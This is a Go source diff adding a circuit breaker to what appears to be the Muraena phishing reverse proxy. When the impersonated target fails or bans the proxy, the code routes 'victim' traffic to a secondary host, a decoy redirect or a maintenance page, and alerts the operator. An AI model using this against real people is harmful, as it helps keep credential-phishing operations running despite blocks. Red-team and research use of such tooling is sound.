@@ -0,0 +1,233 @@
+package proxy
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"fmt"
+	"io/ioutil"
+	"net/http"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/evilsocket/islazy/tui"
+
+	"github.com/muraenateam/muraena/log"
+	"github.com/muraenateam/muraena/session"
+)
+
+// maintenancePage is the page served while the circuit is open, unless a page is configured
+const maintenancePage = `<!DOCTYPE html>
+<html>
+<head><meta charset="utf-8"><title>Service Unavailable</title></head>
+<body>
+<h1>Service Unavailable</h1>
+<p>The service is temporarily unavailable due to scheduled maintenance. Please try again later.</p>
+</body>
+</html>
+`
+
+// circuitBreaker detects the outages or bans of the target, as consecutive 5xx, 429 or connection failures,
+// and switches the requests to the fallback: a secondary target host, a decoy or a maintenance page.
+// Once the cooldown has elapsed, a single request probes the target, closing the circuit if it succeeds.
+type circuitBreaker struct {
+	target   string
+	failures int
+	cooldown time.Duration
+
+	fallback string
+	host     string
+	decoy    string
+	page     []byte
+
+	mu          sync.Mutex
+	consecutive int
+	open        bool
+	openedAt    time.Time
+	probing     bool
+}
+
+// breaker is the circuit breaker of the target, nil if disabled
+var breaker *circuitBreaker
+
+// newCircuitBreaker returns the circuit breaker defined in the configuration, nil if disabled
+func newCircuitBreaker(sess *session.Session) (*circuitBreaker, error) {
+	config := sess.Config.Proxy.CircuitBreaker
+	if !config.Enabled {
+		return nil, nil
+	}
+
+	b := &circuitBreaker{
+		target:   strings.ToLower(sess.Config.Proxy.Target),
+		failures: config.Failures,
+		cooldown: time.Duration(config.Cooldown) * time.Second,
+		fallback: strings.ToLower(config.Fallback),
+		host:     config.Target,
+		decoy:    config.Decoy,
+		page:     []byte(maintenancePage),
+	}
+
+	if config.Page != "" {
+		page, err := ioutil.ReadFile(config.Page)
+		if err != nil {
+			return nil, fmt.Errorf("invalid circuit breaker page: %w", err)
+		}
+		b.page = page
+	}
+
+	return b, nil
+}
+
+// allow checks if the request can be sent to the target: always while the circuit is closed,
+// only to a single probe once the cooldown of the open circuit has elapsed
+func (b *circuitBreaker) allow() bool {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+
+	if !b.open {
+		return true
+	}
+	if b.probing || time.Since(b.openedAt) < b.cooldown {
+		return false
+	}
+
+	b.probing = true
+	return true
+}
+
+// record counts the outcome of a request to the target, opening or closing the circuit
+func (b *circuitBreaker) record(failure string) {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+
+	if failure == "" {
+		b.consecutive = 0
+		if b.open {
+			b.open, b.probing = false, false
+			b.alert("closed", "the target is back")
+		}
+		return
+	}
+
+	b.consecutive++
+	switch {
+	case b.probing:
+		b.probing = false
+		b.openedAt = time.Now()
+	case !b.open && b.consecutive >= b.failures:
+		b.open = true
+		b.openedAt = time.Now()
+		b.alert("open", fmt.Sprintf("%d consecutive failures, last: %s", b.consecutive, failure))
+	}
+}
+
+// abort releases the probe of a request that did not complete, such as one canceled by the victim
+func (b *circuitBreaker) abort() {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+
+	b.probing = false
+}
+
+// alert reports the change of state of the circuit to the operator, with the lock held
+func (b *circuitBreaker) alert(state, reason string) {
+	if state == "open" {
+		log.Important("Circuit breaker of %s %s: %s, switching to the %s fallback",
+			tui.Bold(b.target), tui.Bold(tui.Red(state)), reason, b.fallbackName())
+	} else {
+		log.Important("Circuit breaker of %s %s: %s", tui.Bold(b.target), tui.Bold(tui.Green(state)), reason)
+	}
+
+	session.Publish(session.Event{
+		Type: session.EventUpstream,
+		Data: map[string]string{"state": state, "host": b.target, "reason": reason, "fallback": b.fallbackName()},
+	})
+}
+
+func (b *circuitBreaker) fallbackName() string {
+	if b.fallback == "" {
+		return "maintenance"
+	}
+	return b.fallback
+}
+
+// upstreamFailure returns why the upstream response is a failure, empty if it is not
+func upstreamFailure(resp *http.Response, err error) string {
+	switch {
+	case err != nil:
+		return err.Error()
+	case resp.StatusCode >= http.StatusInternalServerError || resp.StatusCode == http.StatusTooManyRequests:
+		return resp.Status
+	}
+	return ""
+}
+
+// breakerTransport sends the requests of the target to the fallback while the circuit is open
+type breakerTransport struct {
+	breaker *circuitBreaker
+	session *session.Session
+	next    http.RoundTripper
+}
+
+// RoundTrip implements the http.RoundTripper interface
+func (t *breakerTransport) RoundTrip(req *http.Request) (*http.Response, error) {
+	if !strings.EqualFold(req.URL.Hostname(), t.breaker.target) {
+		return t.next.RoundTrip(req)
+	}
+
+	if !t.breaker.allow() {
+		return t.fallback(req)
+	}
+
+	resp, err := t.next.RoundTrip(req)
+	if errors.Is(err, context.Canceled) {
+		// The requests canceled by the victims do not tell anything about the target
+		t.breaker.abort()
+		return resp, err
+	}
+
+	t.breaker.record(upstreamFailure(resp, err))
+	return resp, err
+}
+
+// fallback answers the request while the circuit is open
+func (t *breakerTransport) fallback(req *http.Request) (*http.Response, error) {
+	switch t.breaker.fallback {
+	case "target":
+		secondary := req.Clone(req.Context())
+		secondary.URL.Host = t.breaker.host
+		secondary.Host = t.breaker.host
+		return upstreamTransports.Get(t.session, t.breaker.host).RoundTrip(secondary)
+
+	case "decoy":
+		resp := syntheticResponse(req, http.StatusFound, nil)
+		resp.Header.Set("Location", t.breaker.decoy)
+		return resp, nil
+	}
+
+	resp := syntheticResponse(req, http.StatusServiceUnavailable, t.breaker.page)
+	resp.Header.Set("Content-Type", "text/html; charset=utf-8")
+	resp.Header.Set("Retry-After", strconv.Itoa(int(t.breaker.cooldown/time.Second)))
+	return resp, nil
+}
+
+// syntheticResponse returns a response of the proxy itself, never cached
+func syntheticResponse(req *http.Request, status int, body []byte) *http.Response {
+	header := http.Header{}
+	header.Set("Cache-Control", "no-store")
+	header.Set("Content-Length", strconv.Itoa(len(body)))
+
+	return &http.Response{
+		Status:        fmt.Sprintf("%d %s", status, http.StatusText(status)),
+		StatusCode:    status,
+		Proto:         "HTTP/1.1",
+		ProtoMajor:    1,
+		ProtoMinor:    1,
+		Header:        header,
+		Body:          ioutil.NopCloser(bytes.NewReader(body)),
+		ContentLength: int64(len(body)),
+		Request:       req,
+	}
+}